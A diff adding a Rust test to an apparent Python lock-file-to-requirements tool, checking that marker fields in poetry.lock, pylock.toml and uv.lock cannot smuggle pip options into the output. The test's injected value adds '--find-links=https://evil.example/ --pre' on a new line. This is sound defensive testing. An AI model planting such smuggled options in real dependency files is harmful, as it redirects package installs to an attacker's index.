@@ -606,6 +606,53 @@ fn faults_of_lock_files_are_told_with_their_line() {
 }
 
 #[test]
+fn a_condition_in_a_lock_file_is_no_way_into_the_list_that_is_handed_on() {
+    let house = House::new();
+    // Text in TOML, a line of its own in a requirements file.
+    let options = "\\n--find-links=https://evil.example/ --pre";
+    let count = "version = \"2.1.0\"\n";
+    for (name, from, to) in [
+        (
+            "poetry.lock",
+            "\"win32\\\"",
+            format!("\"win32\\\"{options}"),
+        ),
+        ("pylock.toml", "'win32'", format!("'win32'{options}")),
+        (
+            "uv.lock",
+            count,
+            format!("{count}resolution-markers = [\"os_name == 'nt'{options}\"]\n"),
+        ),
+        (
+            "uv.lock",
+            count,
+            format!(
+                "{count}resolution-markers = [\"os_name == 'nt'\", \"os_name == 'x'{options}\"]\n"
+            ),
+        ),
+        ("poetry.lock", "\"sys_platform", "\"--pre".to_owned()),
+    ] {
+        let text = lock(name).replace(from, &to);
+        assert_ne!(text, lock(name), "{name}");
+        house.write(name, text);
+        let outcome = handed_on(&house, name, "touch started").expect(125);
+        let err = outcome.err();
+        assert!(err.contains("requirements-malformed"), "{name}: {err}");
+        assert!(err.contains("is no condition"), "{name}: {err}");
+        assert!(!house.at("started").exists());
+    }
+    // The same without the option is handed on.
+    let text = lock("uv.lock").replace(
+        count,
+        &format!("{count}resolution-markers = [\"os_name == 'nt'\", \"os_name == 'x'\"]\n"),
+    );
+    house.write("uv.lock", text);
+    let outcome = handed_on(&house, "uv.lock", "cat \"$WHEELPROOF_REQUIREMENTS\"").expect(0);
+    let line = "wheelproof-example-count==2.1.0 ; (os_name == 'nt') or (os_name == 'x') --hash=";
+    assert!(outcome.out().contains(line), "{}", outcome.out());
+}
+
+#[test]
 fn projects_that_a_lock_is_made_for_are_nobodys_download() {
     let house = House::new();
     let own = "source = { virtual = \".\" }";
